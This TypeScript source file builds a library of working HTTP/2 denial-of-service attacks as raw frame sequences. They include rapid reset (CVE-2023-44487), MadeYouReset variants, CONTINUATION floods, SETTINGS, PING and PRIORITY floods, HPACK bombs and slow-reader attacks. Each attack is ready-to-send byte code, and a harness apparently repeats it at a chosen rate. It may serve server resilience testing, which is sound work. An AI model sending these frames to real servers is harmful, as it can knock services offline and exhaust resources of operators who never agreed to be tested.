// The known attacks on HTTP/2, by frames. Each does by itself what makes a server work for nothing, keep what nobody wants, or write what nobody
// reads; whoever runs them says how often.
import {
  block,
  data,
  type Fields,
  flags,
  frame,
  frameType,
  get,
  getFields,
  literal,
  ping,
  post,
  priority,
  reset,
  settings,
  uint32,
  update,
} from "./frames.ts";

export interface Attack {
  readonly name: string;
  /** Sent once, behind the preface and SETTINGS. */
  readonly opening?: Buffer;
  /** Sent again and again, the index counting from 0. Null: the attack is to wait. */
  readonly piece: ((index: number) => Buffer) | null;
  /** Answers are not read. */
  readonly isDeaf?: true;
}

const { endHeaders, endStream, padded } = flags;
const odd = (index: number): number => 2 * index + 1;

/** A GET whose block begins with these bytes of HPACK. */
export const getWith = (stream: number, ...hpack: readonly Buffer[]): Buffer =>
  frame(frameType.headers, endHeaders | endStream, stream, Buffer.concat([block(getFields), ...hpack]));

const largeGet: Fields = getFields.map(([name, value]) => [name, name === ":path" ? "/large" : value]);
/** As many requests for a large answer as a connection may have. */
const largeRequests = Buffer.concat(
  Array.from({ length: 100 }, (_, i) => frame(frameType.headers, endHeaders | endStream, odd(i), block(largeGet))),
);

/** Enters a field of 4,000 bytes into the table. Every further byte of value 0xbe stands for all of it. */
export const bombEntry = Buffer.concat([Buffer.of(0x40, 1, 0x78, 0x7f, 0xa1, 0x1e), Buffer.alloc(4000, 0x61)]);

/** A hundred fields that the table has to take in, other ones in the next request. */
const tableEntries = (i: number): Buffer =>
  Buffer.concat(
    Array.from({ length: 100 }, (_, k) =>
      Buffer.concat([Buffer.of(0x40, 2, 0x78, 0x61 + (k % 26), 2), Buffer.from(String(((i + k) % 90) + 10))]),
    ),
  );

const list = [
  { name: "rapid reset (CVE-2023-44487)", piece: (i) => Buffer.concat([get(odd(i)), reset(odd(i))]) },
  {
    name: "made you reset, by WINDOW_UPDATE of nothing (CVE-2025-8671)",
    piece: (i) => Buffer.concat([post(odd(i)), update(odd(i), 0)]),
  },
  {
    name: "made you reset, by a window too large",
    piece: (i) => Buffer.concat([post(odd(i)), update(odd(i), 0x7fff_ffff)]),
  },
  { name: "made you reset, by HEADERS twice", piece: (i) => Buffer.concat([get(odd(i)), get(odd(i))]) },
  {
    name: "made you reset, by a priority on itself",
    piece: (i) => Buffer.concat([post(odd(i)), frame(frameType.priority, 0, odd(i), priority(odd(i)))]),
  },
  {
    name: "CONTINUATION without end, small ones (CVE-2024-27983)",
    opening: frame(frameType.headers, endStream, 1, block(getFields)),
    piece: () => frame(frameType.continuation, 0, 1, literal("a", "b")),
  },
  {
    name: "CONTINUATION without end, empty ones",
    opening: frame(frameType.headers, endStream, 1, block(getFields)),
    piece: () => frame(frameType.continuation, 0, 1),
  },
  {
    name: "CONTINUATION without end, full ones",
    opening: frame(frameType.headers, endStream, 1, block(getFields)),
    piece: () => frame(frameType.continuation, 0, 1, Buffer.alloc(16_384, literal("abcdef", "1234567"))),
  },
  { name: "SETTINGS (CVE-2019-9515)", piece: () => settings() },
  { name: "initial windows up and down", piece: (i) => settings([4, i % 2 === 0 ? 0 : 65_535]) },
  { name: "header-table sizes up and down", piece: (i) => settings([1, i % 2 === 0 ? 0 : 4096]) },
  { name: "header tables filled anew with every request", piece: (i) => getWith(odd(i), tableEntries(i)) },
  { name: "PING (CVE-2019-9512)", piece: () => ping() },
  { name: "PING, the answers unread", piece: () => ping(), isDeaf: true },
  { name: "empty DATA (CVE-2019-9518)", opening: post(1), piece: () => data(1, "") },
  {
    name: "DATA of padding alone",
    opening: post(1),
    piece: () => frame(frameType.data, padded, 1, Buffer.alloc(2, 1)),
  },
  { name: "DATA of one byte", opening: post(1), piece: () => data(1, "x") },
  { name: "PRIORITY (CVE-2019-9513)", piece: () => frame(frameType.priority, 0, 1, priority(3)) },
  { name: "WINDOW_UPDATE of the connection", piece: () => update(0, 1) },
  { name: "frames of an unknown type", piece: () => frame(0x20, 0, 0, Buffer.alloc(8)) },
  { name: "zero-length header names (CVE-2019-9516)", piece: (i) => get(odd(i), [["", ""]]) },
  { name: "malformed requests", piece: (i) => get(odd(i), [["X", "1"]]) },
  {
    name: "HPACK bombs (CVE-2016-6581)",
    opening: getWith(1, bombEntry),
    piece: (i) => getWith(odd(i + 1), Buffer.alloc(10_000, 0xbe)),
  },
  {
    name: "slow readers, without a window (CVE-2019-9511)",
    opening: Buffer.concat([settings([4, 0]), largeRequests]),
    piece: null,
  },
  {
    name: "slow readers, with windows and deaf (CVE-2019-9517)",
    opening: Buffer.concat([
      settings([4, 0x7fff_ffff]),
      frame(frameType.windowUpdate, 0, 0, uint32(0x7fff_0000)),
      largeRequests,
    ]),
    piece: null,
    isDeaf: true,
  },
] as const satisfies readonly Attack[];

export type AttackName = (typeof list)[number]["name"];

export const attacks: readonly (Attack & { readonly name: AttackName })[] = list;

/** The attack of this name. */
export function attackOf(name: AttackName): Attack {
  const found = attacks.find((attack) => attack.name === name);
  if (found === undefined) throw new Error(`no attack is called ${name}`);
  return found;
}
